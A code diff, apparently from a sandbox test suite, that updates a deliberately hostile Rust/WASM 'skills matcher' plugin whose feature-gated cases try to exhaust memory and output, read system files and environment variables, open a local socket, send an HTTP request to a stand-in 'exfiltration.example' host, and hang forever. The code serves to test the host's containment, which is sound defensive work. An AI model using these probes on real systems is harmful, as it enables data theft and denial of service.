@@ -6,8 +6,28 @@ use vivier_sdk::skills_matcher::{Assessment, Candidate, MatchError, Posting, Ski
 
 struct Hostile;
 
-fn assessment(id: String, score: f32, summary: String) -> Assessment {
-    Assessment { candidate_id: id, score, requirements: vec![], summary, interview_questions: vec![] }
+/// An assessment that names every requirement of the posting (the host fails a call that
+/// omits one), each unmet.
+fn assessment(posting: &Posting, id: String, score: f32, summary: String) -> Assessment {
+    Assessment { candidate_id: id, score, requirements: rows(posting, 0.0), summary, interview_questions: vec![] }
+}
+
+/// One row per requirement of the posting, with its label and weight, sharing `score`.
+fn rows(posting: &Posting, score: f32) -> Vec<vivier_sdk::skills_matcher::RequirementAssessment> {
+    use vivier_sdk::skills_matcher::{RequirementAssessment, RequirementStatus};
+    let share = score / posting.requirements.len().max(1) as f32;
+    posting
+        .requirements
+        .iter()
+        .map(|r| RequirementAssessment {
+            requirement_id: r.id.clone(),
+            requirement: r.label.clone(),
+            status: if share > 0.0 { RequirementStatus::Partial } else { RequirementStatus::Missing },
+            evidence: vec![],
+            weight: r.weight,
+            contribution: share,
+        })
+        .collect()
 }
 
 #[inline(never)]
@@ -36,7 +56,7 @@ impl SkillsMatcher for Hostile {
         {
             let mut pad = [0u8; 256];
             let depth = recurse(0, &mut pad);
-            return Ok(ids().map(|id| assessment(id, 0.0, depth.to_string())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.0, depth.to_string())).collect());
         }
 
         #[cfg(feature = "memory-bomb")]
@@ -46,7 +66,7 @@ impl SkillsMatcher for Hostile {
             for _ in 0..256 {
                 hoard.push(vec![1u8; 16 << 20]);
             }
-            return Ok(ids().map(|id| assessment(id, hoard.len() as f32, String::new())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, hoard.len() as f32, String::new())).collect());
         }
 
         #[cfg(feature = "output-bomb")]
@@ -54,7 +74,7 @@ impl SkillsMatcher for Hostile {
             // Try to return 1 GiB of text.
             let chunk = "x".repeat(1 << 20);
             let summary: String = std::iter::repeat(chunk.as_str()).take(1024).collect();
-            return Ok(ids().map(|id| assessment(id, 0.0, summary.clone())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.0, summary.clone())).collect());
         }
 
         #[cfg(feature = "output-flood")]
@@ -62,7 +82,7 @@ impl SkillsMatcher for Hostile {
             // 6 MiB per candidate (12 MiB for the tests' two): within the plugin's memory and
             // the data the host lifts in one call (20 MiB), over the host's output limit (8 MiB).
             let summary = "y".repeat(6 << 20);
-            return Ok(ids().map(|id| assessment(id, 0.0, summary.clone())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.0, summary.clone())).collect());
         }
 
         #[cfg(feature = "read-passwd")]
@@ -72,7 +92,9 @@ impl SkillsMatcher for Hostile {
                 Err(e) => format!("denied: {e}"),
             };
             let listing = std::fs::read_dir("/").map(|d| d.count()).unwrap_or(0);
-            return Ok(ids().map(|id| assessment(id, 0.0, format!("{found} / entries: {listing}"))).collect());
+            return Ok(ids()
+                .map(|id| assessment(&posting, id, 0.0, format!("{found} / entries: {listing}")))
+                .collect());
         }
 
         #[cfg(feature = "read-env")]
@@ -81,14 +103,14 @@ impl SkillsMatcher for Hostile {
             let args: Vec<String> = std::env::args().collect();
             let home = std::env::var("HOME").unwrap_or_default();
             return Ok(ids()
-                .map(|id| assessment(id, 0.0, format!("vars={vars:?} args={args:?} home={home}")))
+                .map(|id| assessment(&posting, id, 0.0, format!("vars={vars:?} args={args:?} home={home}")))
                 .collect());
         }
 
         #[cfg(feature = "open-socket")]
         {
             let result = std::net::TcpStream::connect("127.0.0.1:22").map(|_| "connected").unwrap_or("refused");
-            return Ok(ids().map(|id| assessment(id, 0.0, result.into())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.0, result.into())).collect());
         }
 
         #[cfg(feature = "http-without-grant")]
@@ -98,14 +120,14 @@ impl SkillsMatcher for Hostile {
             let _ = request.set_scheme(Some(&Scheme::Https));
             let _ = request.set_authority(Some("exfiltration.example"));
             let sent = wasi::http::outgoing_handler::handle(request, None).is_ok();
-            return Ok(ids().map(|id| assessment(id, 0.0, format!("sent={sent}"))).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.0, format!("sent={sent}"))).collect());
         }
 
         #[cfg(feature = "sleep-forever")]
         {
             // A WASI sleep: the plugin waits in the host, where epochs do not reach.
             std::thread::sleep(std::time::Duration::from_secs(3600));
-            return Ok(ids().map(|id| assessment(id, 0.0, "woke up".into())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.0, "woke up".into())).collect());
         }
 
         #[cfg(feature = "poll-never")]
@@ -113,7 +135,7 @@ impl SkillsMatcher for Hostile {
             // A pollable that never resolves: an instant at the end of time.
             let never = wasip2::clocks::monotonic_clock::subscribe_instant(u64::MAX);
             wasip2::io::poll::poll(&[&never]);
-            return Ok(ids().map(|id| assessment(id, 0.0, "resolved".into())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.0, "resolved".into())).collect());
         }
 
         #[cfg(feature = "embed-forever")]
@@ -136,7 +158,7 @@ impl SkillsMatcher for Hostile {
                     break;
                 }
             }
-            return Ok(ids().map(|id| assessment(id, hoard.len() as f32, String::new())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, hoard.len() as f32, String::new())).collect());
         }
 
         #[cfg(feature = "empty-log-flood")]
@@ -146,7 +168,7 @@ impl SkillsMatcher for Hostile {
             for _ in 0..2_000_000 {
                 emit(Level::Trace, "");
             }
-            return Ok(ids().map(|id| assessment(id, 0.5, "survived".into())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.5, "survived".into())).collect());
         }
 
         #[cfg(feature = "hostcall-bomb")]
@@ -155,14 +177,14 @@ impl SkillsMatcher for Hostile {
             use vivier_sdk::skills_matcher::log::{emit, Level};
             let message = "x".repeat(96 << 20);
             emit(Level::Info, &message);
-            return Ok(ids().map(|id| assessment(id, 0.5, "survived".into())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.5, "survived".into())).collect());
         }
 
         #[cfg(feature = "random-bomb")]
         {
             // 1 GiB of random bytes, built by the host.
             let bytes = wasip2::random::random::get_random_bytes(1 << 30);
-            return Ok(ids().map(|id| assessment(id, bytes.len() as f32, String::new())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, bytes.len() as f32, String::new())).collect());
         }
 
         #[cfg(feature = "panic")]
@@ -179,24 +201,26 @@ impl SkillsMatcher for Hostile {
                 println!("stdout flood {i}");
                 eprintln!("stderr flood {i}");
             }
-            return Ok(ids().map(|id| assessment(id, 0.5, "survived".into())).collect());
+            return Ok(ids().map(|id| assessment(&posting, id, 0.5, "survived".into())).collect());
         }
 
         #[cfg(feature = "nan-score")]
         return Ok(ids()
             .enumerate()
-            .map(|(i, id)| assessment(id, if i % 2 == 0 { f32::NAN } else { -7.5 }, String::new()))
+            .map(|(i, id)| assessment(&posting, id, if i % 2 == 0 { f32::NAN } else { -7.5 }, String::new()))
             .collect());
 
         #[cfg(feature = "wrong-ids")]
-        return Ok(vec![assessment("not-a-candidate".into(), 0.9, String::new())]);
+        return Ok(vec![assessment(&posting, "not-a-candidate".into(), 0.9, String::new())]);
 
         #[cfg(feature = "remember")]
         {
             use std::sync::atomic::{AtomicU32, Ordering};
             static CALLS: AtomicU32 = AtomicU32::new(0);
             let seen = CALLS.fetch_add(1, Ordering::SeqCst) + 1;
-            return Ok(ids().map(|id| assessment(id, 0.5, format!("calls seen by this instance: {seen}"))).collect());
+            return Ok(ids()
+                .map(|id| assessment(&posting, id, 0.5, format!("calls seen by this instance: {seen}")))
+                .collect());
         }
 
         #[cfg(feature = "exit")]
@@ -218,7 +242,7 @@ impl SkillsMatcher for Hostile {
                 .zip(&vectors[1..])
                 .map(|(id, v)| {
                     let cosine: f32 = query.iter().zip(v).map(|(a, b)| a * b).sum();
-                    assessment(id, cosine, format!("dimension {dim}, {} values", v.len()))
+                    assessment(&posting, id, cosine, format!("dimension {dim}, {} values", v.len()))
                 })
                 .collect());
         }
@@ -227,7 +251,6 @@ impl SkillsMatcher for Hostile {
         {
             // Skill coverage like a plain matcher, plus a bonus for the masculine word
             // "ingénieur" in a title: the bias the probe must catch.
-            use vivier_sdk::skills_matcher::{RequirementAssessment, RequirementStatus};
             let share = 1.0 / posting.requirements.len().max(1) as f32;
             return Ok(candidates
                 .iter()
@@ -249,14 +272,7 @@ impl SkillsMatcher for Hostile {
                     Assessment {
                         candidate_id: c.id.clone(),
                         score,
-                        requirements: vec![RequirementAssessment {
-                            requirement_id: "r1".into(),
-                            requirement: "ensemble".into(),
-                            status: RequirementStatus::Partial,
-                            evidence: vec![],
-                            weight: 1.0,
-                            contribution: score,
-                        }],
+                        requirements: rows(&posting, score),
                         summary: String::new(),
                         interview_questions: vec![],
                     }
@@ -270,7 +286,9 @@ impl SkillsMatcher for Hostile {
             // can inspect what a matcher receives.
             return Ok(candidates
                 .iter()
-                .map(|c| assessment(c.id.clone(), 0.0, format!("{:?} months={:?}", c.profile, c.experience_months)))
+                .map(|c| {
+                    assessment(&posting, c.id.clone(), 0.0, format!("{:?} months={:?}", c.profile, c.experience_months))
+                })
                 .collect());
         }
 
